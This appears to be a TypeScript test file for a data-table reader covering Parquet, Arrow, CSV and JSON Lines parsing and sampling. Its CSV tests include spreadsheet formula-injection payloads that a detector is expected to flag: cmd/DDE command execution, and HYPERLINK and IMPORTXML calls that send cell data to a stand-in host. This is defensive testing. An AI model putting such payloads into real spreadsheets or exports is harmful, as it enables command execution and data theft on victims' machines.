import { readFileSync } from 'node:fs'
import path from 'node:path'
import { parquetReadObjects } from 'hyparquet'
import { compressors } from 'hyparquet-compressors'
import { describe, expect, it } from 'vitest'
import { memorySource } from '../../bytes/memory.ts'
import { Meter } from '../../bytes/meter.ts'
import type { ByteSource } from '../../bytes/source.ts'
import { DEFAULT_LIMITS } from '../../model/limits.ts'
import { FormatError } from '../../model/trouble.ts'
import { arrowMessages, readSchema } from '../arrow/messages.ts'
import { ArrowRows } from '../arrow/rows.ts'
import { readFooter } from '../parquet/footer.ts'
import { ParquetRows } from '../parquet/rows.ts'
import { type RowBatch, startOf } from './batch.ts'
import { CsvRows, csvDialect } from './csv.ts'
import { formula } from './formula.ts'
import { JsonLines } from './jsonl.ts'
import { isSampled, sampleParts } from './sample.ts'

const FIXTURES = path.join(import.meta.dirname, '..', '..', '..', 'fixtures')
const { signal } = new AbortController()
const fixture = (name: string) => Uint8Array.from(readFileSync(path.join(FIXTURES, name)))
const meterOf = (bytes: Uint8Array) => new Meter(DEFAULT_LIMITS, bytes.length)

/** The values of each column with their rows. */
async function values(batches: AsyncIterable<RowBatch>): Promise<Record<string, [number, string][]>> {
  const found: Record<string, [number, string][]> = {}
  for await (const { first, columns } of batches) {
    for (const column of columns) {
      const list = found[column.name] ?? []
      found[column.name] = list
      for (const [i, end] of column.ends.entries()) {
        const text = Buffer.from(column.bytes.subarray(startOf(column, i), end)).toString()
        list.push([first + (column.rows?.[i] ?? i), text])
      }
    }
  }
  return found
}

async function parquetValues(bytes: Uint8Array, limit = Number.POSITIVE_INFINITY) {
  const source = memorySource(bytes)
  const rows = new ParquetRows(source, await readFooter(source, bytes.length), limit, meterOf(bytes))
  return { found: await values(rows.batches(signal)), rows }
}

describe('parquet', () => {
  it.each(['dialogue', 'pandas', 'deltas', 'images'])('reads what hyparquet reads: %s', async (name) => {
    const bytes = fixture(`parquet/${name}/input.parquet`)
    const { found, rows } = await parquetValues(bytes)
    expect(rows.troubles).toEqual([])
    const file = {
      byteLength: bytes.length,
      slice: (from: number, to?: number) => bytes.slice(from, to).buffer,
    }
    const theirs = await parquetReadObjects({ file, compressors })
    expect(rows.read).toBe(theirs.length)
    for (const column of ['text', 'id', 'label'].filter((key) => theirs.some((row) => key in row))) {
      const wanted = theirs.flatMap((row, i) => (row[column] == null ? [] : [[i, String(row[column])]]))
      expect(found[column]).toEqual(wanted)
    }
  })

  it('gives the values of lists to the row of the list', async () => {
    const { found } = await parquetValues(fixture('parquet/dialogue/input.parquet'))
    const contents = found['messages.list.element.content'] ?? []
    expect(contents).toHaveLength(120)
    expect(contents.slice(-2)).toEqual([
      [59, 'What is 59 and 59?'],
      [59, '118.'],
    ])
  })

  it('samples every row group', async () => {
    const { found, rows } = await parquetValues(fixture('parquet/dialogue/input.parquet'), 6)
    expect(rows.read).toBeLessThanOrEqual(6)
    expect(found.id?.map(([row]) => row)).toEqual([0, 1, 25, 26, 50])
  })

  it('fails on no byte in another way than by saying so', async () => {
    const honest = fixture('parquet/deltas/input.parquet')
    for (let at = 4; at < honest.length; at += 7) {
      const bytes = Uint8Array.from(honest)
      bytes[at] = (bytes[at] ?? 0) ^ 0xa5
      try {
        const { rows } = await parquetValues(bytes)
        expect(rows.troubles.every((trouble) => trouble instanceof FormatError)).toBe(true)
      } catch (error) {
        expect(error).toBeInstanceOf(FormatError)
      }
    }
  })
})

async function arrowValues(bytes: Uint8Array) {
  const source = memorySource(bytes)
  const messages = arrowMessages(source, 0)
  const first = (await messages.next()).value
  if (!first || 'end' in first) throw new FormatError('corrupt', 'no schema')
  const schema = await readSchema(source, first.flat, first.header)
  const batches = (async function* () {
    for await (const message of messages) if (!('end' in message)) yield message
  })()
  const rows = new ArrowRows(source, schema, batches, Number.POSITIVE_INFINITY, meterOf(bytes))
  return { found: await values(rows.batches(signal)), rows }
}

describe('arrow', () => {
  it('reads the same table as from Parquet', async () => {
    const { found, rows } = await arrowValues(fixture('arrow/stream/input.arrow'))
    const { found: theirs } = await parquetValues(fixture('parquet/dialogue/input.parquet'))
    expect(rows.troubles).toEqual([])
    expect(found.id).toEqual(theirs.id)
    expect(found.label).toEqual(theirs.label)
    expect(found['messages.item.content'] ?? found['messages.element.content']).toEqual(
      theirs['messages.list.element.content'],
    )
  })

  it('fails on no byte in another way than by saying so', async () => {
    const honest = fixture('arrow/stream/input.arrow')
    for (let at = 4; at < honest.length; at += 11) {
      const bytes = Uint8Array.from(honest)
      bytes[at] = (bytes[at] ?? 0) ^ 0xa5
      try {
        await arrowValues(bytes)
      } catch (error) {
        expect(error).toBeInstanceOf(FormatError)
      }
    }
  })
})

/** A source that comes in pieces of so many bytes. */
function inPieces(text: string, count: number): ByteSource {
  const bytes = Buffer.from(text)
  return {
    ...memorySource(bytes),
    async *stream() {
      for (let at = 0; at < bytes.length; at += count) yield Uint8Array.from(bytes.subarray(at, at + count))
    },
  }
}

describe('csv', () => {
  const TEXT = 'a,b,"c ""q"""\r\n1,"x ""y"" z\nnew",\n=1+cmd|x!A0,,é\r2,"",3\nlast,"un""closed'
  it.each([1, 2, 3, 1000])('reads quotes and every kind of line end in pieces of %i bytes', async (count) => {
    const head = Buffer.from(TEXT)
    const dialect = csvDialect(head)
    if (!dialect) throw new Error('no dialect')
    const formulas: string[] = []
    const table = new CsvRows(
      inPieces(TEXT, count),
      head,
      'utf-8',
      dialect,
      Number.POSITIVE_INFINITY,
      (f) => {
        formulas.push(`${f.row} ${f.column} ${f.text}`)
      },
    )
    expect(await values(table.batches(signal))).toEqual({
      a: [
        [0, '1'],
        [1, '=1+cmd|x!A0'],
        [2, '2'],
        [3, 'last'],
      ],
      b: [
        [0, 'x "y" z\nnew'],
        [3, 'un"closed'],
      ],
      'c "q"': [
        [1, 'é'],
        [2, '3'],
      ],
    })
    expect(formulas).toEqual(['1 a =1+cmd|x!A0'])
    expect([table.rows, table.unclosed, [...table.newlines].toSorted()]).toEqual([
      4,
      true,
      ['cr', 'crlf', 'lf'],
    ])
  })

  it.each([
    ["=cmd|' /C calc'!A0", 'run'],
    ["@SUM(1+9)*cmd|' /C calc'!A0", 'run'],
    ['=DDE("server","topic","item")', 'run'],
    ['=HYPERLINK("https://example.invalid?"&A1)', 'fetch'],
    ['+IMPORTXML("https://example.invalid","//a")', 'fetch'],
    ['=SUM(A1:A9)', 'compute'],
    ['=A1', 'compute'],
    ['-1.5', undefined],
    ['+49 30 123456', undefined],
    ['- an item', undefined],
    ['@somebody', undefined],
    ['== heading ==', undefined],
    ['=> next', undefined],
    ['-x | grep y | sort', undefined],
    ['--help | show this help', undefined],
    ['-a|b', undefined],
    ['- call(me)', undefined],
  ])('%s does %s', (text, does) => expect(formula(text)?.does).toBe(does))
})

describe('json lines', () => {
  const TEXT =
    '{"t":"a\\u200bb \\"q\\" é","n":1,"m":[{"c":"hi"},{"c":"yo"}],"v":[1,2]}\n\n{"t":"z","t":"w"}\r\n{bad\n"s"\n{"k":"\\\\"}'
  it.each([1, 7, 1000])('decodes strings by name in pieces of %i bytes', async (count) => {
    const told: string[] = []
    const table = new JsonLines(inPieces(TEXT, count), Buffer.from(TEXT), 'utf-8', {
      limit: Number.POSITIVE_INFINITY,
      depth: 64,
      told: ({ trouble, key, row }) => told.push(`${row} ${trouble} ${key}`),
    })
    expect(await values(table.batches(signal))).toEqual({
      t: [
        [0, 'a\u200bb "q" é'],
        [1, 'z'],
        [1, 'w'],
      ],
      n: [[0, '1']],
      'm.c': [
        [0, 'hi'],
        [0, 'yo'],
      ],
      '': [
        [2, '{bad'],
        [3, 's'],
      ],
      k: [[4, '\\']],
    })
    expect(told).toEqual(['1 duplicate t', '2 syntax '])
  })
})

describe('samples', () => {
  it('reach every part of a table, and take all of a small one', () => {
    expect(sampleParts([10, 20], 100)).toEqual([10, 20])
    expect(sampleParts([1000, 3000, 0], 100)).toEqual([25, 75, 0])
    expect(sampleParts(new Array(1000).fill(5), 10).filter((rows) => rows > 0)).toHaveLength(10)
    const rows = Array.from({ length: 100_000 }, (_, i) => i).filter((row) => isSampled(row, 100_000, 10_000))
    expect(rows).toHaveLength(10_000)
    expect(rows.at(-1)).toBeGreaterThan(90_000)
  })
})
